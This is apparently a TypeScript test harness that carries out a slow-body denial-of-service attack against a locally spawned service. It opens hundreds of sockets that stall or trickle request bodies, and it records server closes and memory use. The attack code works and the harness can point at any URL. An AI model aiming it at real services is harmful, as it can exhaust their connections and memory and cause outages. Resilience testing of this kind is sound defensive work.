/**
 * Adversarial harness for slow-body exhaustion (issue 14 §1), reusable against any service
 * running as a child process: N real sockets each send a request's headers with a large
 * `Content-Length` and then either almost all of the body before stalling (`stall`: the last byte
 * never comes), or one byte every few seconds (`trickle`). It records when and how the server
 * closes each connection, and samples the target's resident memory from /proc/<pid>/status while
 * the attack runs.
 *
 *   const attack = await startSlowBodyAttack({ url, path: '/attest', connections: 400, mode: 'stall' });
 *   ...probe health while it runs...
 *   const report = await attack.finished(20_000);   // every connection closed, or the deadline
 *   attack.leave();                                 // the attacker goes away (destroys what is left)
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

export const MIB = 1 << 20;

/** Resident set size of a process in bytes (VmRSS of /proc/<pid>/status). */
export function readRssBytes(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = /^VmRSS:\s+(\d+)\s+kB$/m.exec(status)?.[1];
  if (kb === undefined) throw new Error(`no VmRSS for process ${pid}`);
  return Number(kb) * 1024;
}

/** Samples a process's RSS every `everyMs` until stopped; `peak()` is the highest seen. */
export class RssSampler {
  private max = 0;
  private readonly timer: NodeJS.Timeout;

  constructor(
    private readonly pid: number,
    everyMs = 100,
  ) {
    this.sample();
    this.timer = setInterval(() => this.sample(), everyMs);
  }

  private sample(): void {
    try {
      this.max = Math.max(this.max, readRssBytes(this.pid));
    } catch {
      // The process exited: the caller's health checks report that.
    }
  }

  peak(): number {
    this.sample();
    return this.max;
  }

  stop(): number {
    clearInterval(this.timer);
    return this.peak();
  }
}

export interface SlowBodyAttackOptions {
  /** Base URL of the target, `http://host:port`. */
  readonly url: string;
  readonly path: string;
  readonly method?: string;
  /** Extra request headers, e.g. a valid `authorization` to get past the auth check. */
  readonly headers?: Readonly<Record<string, string>>;
  readonly connections: number;
  /** Declared body size; default 1 MiB. */
  readonly contentLength?: number;
  /** `stall`: send contentLength - 1 bytes, then nothing. `trickle`: one byte every `trickleIntervalMs`. */
  readonly mode: 'stall' | 'trickle';
  readonly trickleIntervalMs?: number;
}

export interface ConnectionClose {
  readonly index: number;
  /** Milliseconds from the start of the attack to the close. */
  readonly afterMs: number;
  /**
   * Milliseconds from this connection's request (sent once connected) to its close: what a request
   * timeout bounds. A connect the server's full accept queue delayed does not count against it.
   */
  readonly openMs: number;
  /** The first line the server sent before closing (e.g. `HTTP/1.1 401 Unauthorized`), if any. */
  readonly statusLine: string | undefined;
  /** The socket error that ended it, if any (`ECONNRESET`, `EPIPE`). */
  readonly error: string | undefined;
}

export interface AttackReport {
  /** Connections the server accepted (the rest were refused or reset before connecting). */
  readonly connected: number;
  readonly closes: readonly ConnectionClose[];
  /** Connections still open when the report was taken. */
  readonly open: number;
  /** Status codes the server answered with, and how often. */
  readonly statuses: Readonly<Record<string, number>>;
}

export interface SlowBodyAttack {
  /** Resolves once every connection is closed, or at `deadlineMs` after the start with what is known then. */
  finished(deadlineMs: number): Promise<AttackReport>;
  report(): AttackReport;
  /** The attacker leaves: every connection still open is destroyed. */
  leave(): void;
}

function requestHead(o: SlowBodyAttackOptions, host: string, contentLength: number): string {
  const lines = [`${o.method ?? 'POST'} ${o.path} HTTP/1.1`, `host: ${host}`, 'content-type: application/json', `content-length: ${contentLength}`];
  for (const [name, value] of Object.entries(o.headers ?? {})) lines.push(`${name}: ${value}`);
  return `${lines.join('\r\n')}\r\n\r\n`;
}

/** Opens every connection and starts sending; resolves once all have connected or failed to. */
export async function startSlowBodyAttack(o: SlowBodyAttackOptions): Promise<SlowBodyAttack> {
  const target = new URL(o.url);
  const contentLength = o.contentLength ?? MIB;
  const head = Buffer.from(requestHead(o, target.host, contentLength), 'latin1');
  // One shared buffer: every socket writes the same bytes, the harness holds one copy.
  const body = Buffer.alloc(contentLength - 1, 0x61);
  const started = Date.now();
  const sockets: Socket[] = [];
  const closes: ConnectionClose[] = [];
  const timers: NodeJS.Timeout[] = [];
  let connected = 0;
  let waiters: Array<() => void> = [];

  const report = (): AttackReport => {
    const statuses: Record<string, number> = {};
    for (const c of closes) {
      const code = c.statusLine?.split(' ')[1] ?? 'none';
      statuses[code] = (statuses[code] ?? 0) + 1;
    }
    return { connected, closes: [...closes], open: o.connections - closes.length, statuses };
  };

  const opened = Array.from({ length: o.connections }, (_, index) =>
    new Promise<void>((resolve) => {
      const socket = connect({ host: target.hostname, port: Number(target.port) });
      sockets.push(socket);
      let firstLine: string | undefined;
      let error: string | undefined;
      let requestedAt: number | undefined;
      let received = '';
      socket.on('data', (chunk: Buffer) => {
        if (firstLine !== undefined) return;
        received += chunk.toString('latin1');
        const end = received.indexOf('\r\n');
        if (end >= 0) firstLine = received.slice(0, end);
      });
      socket.on('error', (err: NodeJS.ErrnoException) => {
        error ??= err.code ?? err.message;
      });
      socket.once('connect', () => {
        connected++;
        resolve();
        requestedAt = Date.now();
        socket.write(head);
        if (o.mode === 'stall') {
          socket.write(body);
        } else {
          const every = o.trickleIntervalMs ?? 5000;
          let sent = 0;
          const drip = () => {
            if (socket.destroyed || sent >= contentLength - 1) return;
            socket.write(body.subarray(0, 1));
            sent++;
            timers.push(setTimeout(drip, every));
          };
          drip();
        }
      });
      socket.once('close', () => {
        resolve();
        const now = Date.now();
        closes.push({ index, afterMs: now - started, openMs: now - (requestedAt ?? now), statusLine: firstLine, error });
        if (closes.length === o.connections) for (const w of waiters.splice(0)) w();
      });
    }),
  );
  await Promise.all(opened);

  return {
    report,
    async finished(deadlineMs: number) {
      if (closes.length < o.connections) {
        await new Promise<void>((resolve) => {
          const timer = setTimeout(resolve, Math.max(0, started + deadlineMs - Date.now()));
          waiters.push(() => {
            clearTimeout(timer);
            resolve();
          });
        });
      }
      return report();
    },
    leave() {
      for (const t of timers) clearTimeout(t);
      for (const s of sockets) s.destroy();
      waiters = [];
    },
  };
}
